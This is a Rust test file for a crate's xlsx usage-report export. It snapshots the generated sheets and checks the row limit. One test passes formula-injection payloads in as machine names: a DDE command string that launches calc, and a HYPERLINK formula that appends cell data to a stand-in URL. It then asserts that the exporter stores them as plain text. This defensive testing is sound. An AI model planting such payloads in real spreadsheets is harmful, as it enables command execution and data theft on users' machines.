//! Usage reports, read by programs of other makers.
#![cfg(unix)]

use insta::assert_snapshot;
use mintage::Code;
use mintage::report::{General, PrimaryKey, Report, ReportError, Request, Session, Tally, xlsx};
use mintage::time::Timestamp;

use crate::harness::{Bench, ISSUED};
use crate::interop::present;
use crate::languages::foreign;

/// A report of one session of six hours for each machine, the last of them still running.
fn report<'a>(machines: impl IntoIterator<Item = &'a str>) -> Report {
    let started_at = Timestamp::parse_rfc3339(ISSUED).unwrap();
    let as_of = started_at.saturating_add(86_400);
    let request = Request { primary_key: PrimaryKey::MachineId, from: Some(started_at), to: None, as_of };
    let mut tally = Tally::new(request);
    let mut end = None;
    for machine_id in machines {
        tally.session(&Session {
            machine_id,
            username: None,
            client_username: None,
            client_hostname: None,
            started_at,
            ended_at: end,
            is_ci: false,
        });
        end = Some(started_at.saturating_add(21_600));
    }
    tally.finish(General { total_licenses: 1, tier: Some("=1+1".to_owned()), ..General::default() }, Vec::new())
}

/// Reads a spreadsheet as openpyxl does; `None` where that is not installed.
fn cells(report: &Report) -> Option<String> {
    let bench = Bench::new();
    bench.write("report.xlsx", xlsx::workbook(report).unwrap());
    let script = format!("{}/tests/it/report/workbook.py", env!("CARGO_MANIFEST_DIR"));
    let read =
        present("python3", ["-c", "import openpyxl"]).then(|| foreign(&bench, "python3", [&script, "report.xlsx"]))?;
    assert_eq!(read.status, Some(0), "{read}");
    Some(read.stdout().to_owned())
}

#[test]
fn a_spreadsheet_has_two_sheets_with_the_columns_of_the_field() {
    if let Some(cells) = cells(&report(["m1", "m2"])) {
        assert_snapshot!(cells, @"
        General stats|A1|s|'metric'
        General stats|B1|s|'value'
        General stats|A2|s|'from'
        General stats|B2|d|datetime.datetime(2026, 1, 1, 0, 0)
        General stats|A3|s|'to'
        General stats|B3|d|datetime.datetime(2026, 1, 2, 0, 0)
        General stats|A4|s|'as_of'
        General stats|B4|d|datetime.datetime(2026, 1, 2, 0, 0)
        General stats|A5|s|'licenses_acquired'
        General stats|B5|n|1
        General stats|A6|s|'unique_machines'
        General stats|B6|n|2
        General stats|A7|s|'tier'
        General stats|B7|s|'=1+1'
        General stats|A8|s|'total_session_count'
        General stats|B8|n|2
        General stats|A9|s|'total_session_time_in_days'
        General stats|B9|n|1.25
        General stats|A10|s|'ci_session_count'
        General stats|B10|n|0
        General stats|A11|s|'ci_sessions_running'
        General stats|B11|n|0
        General stats|A12|s|'ci_sessions_at_once'
        General stats|B12|n|0
        General stats|A13|s|'all_time_session_count'
        General stats|B13|n|2
        General stats|A14|s|'all_time_session_time_in_days'
        General stats|B14|n|1.25
        General stats|A15|s|'all_time_ci_session_count'
        General stats|B15|n|0
        Per-user stats|A1|s|'machine_id'
        Per-user stats|B1|s|'first_active'
        Per-user stats|C1|s|'last_seen'
        Per-user stats|D1|s|'total_session_time_in_days'
        Per-user stats|E1|s|'total_session_count'
        Per-user stats|F1|s|'average_session_duration_in_days'
        Per-user stats|G1|s|'average_daily_sessions'
        Per-user stats|A2|s|'m1'
        Per-user stats|B2|d|datetime.datetime(2026, 1, 1, 0, 0)
        Per-user stats|C2|d|datetime.datetime(2026, 1, 2, 0, 0)
        Per-user stats|D2|n|1
        Per-user stats|E2|n|1
        Per-user stats|F2|n|1
        Per-user stats|G2|n|1
        Per-user stats|A3|s|'m2'
        Per-user stats|B3|d|datetime.datetime(2026, 1, 1, 0, 0)
        Per-user stats|C3|d|datetime.datetime(2026, 1, 1, 6, 0)
        Per-user stats|D3|n|0.25
        Per-user stats|E3|n|1
        Per-user stats|F3|n|0.25
        Per-user stats|G3|n|1
        ");
    }
}

#[test]
fn no_cell_is_a_formula_whatever_a_machine_calls_itself() {
    let payloads = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"http://x?\"&A1,\"y\")"];
    let leads = ["\t=1", "\r=1", "\n=1", " =1", "%=1", ";=1", "＝1+1", "{=1}", "\u{1}=1", "_x0041_", "1e5", "TRUE"];
    let machines: Vec<&str> = payloads.into_iter().chain(leads).collect();
    let Some(cells) = cells(&report(machines.iter().copied())) else { return };
    let found: Vec<&str> = cells.lines().filter(|line| line.starts_with("Per-user stats|A")).collect();
    assert_eq!(found.len(), 1 + machines.len(), "{cells}");
    assert!(found.iter().all(|line| line.split('|').nth(2) == Some("s")), "{cells}");
    assert!(!cells.lines().any(|line| line.split('|').nth(2) == Some("f")), "{cells}");
    assert!(cells.contains("General stats|B7|s|'=1+1'"), "{cells}");
}

#[test]
fn more_users_than_rows_are_refused() {
    let names: Vec<String> = (0..xlsx::MAX_ROWS).map(|number| number.to_string()).collect();
    let error = xlsx::workbook(&report(names.iter().map(String::as_str))).unwrap_err();
    assert_eq!((error.code(), &error), (Code::Unsupported, &ReportError::TooManyUsers(1 << 20)));
    assert_eq!(error.to_string(), "a spreadsheet has at most 1048576 rows, and 1048576 users need one each");
}
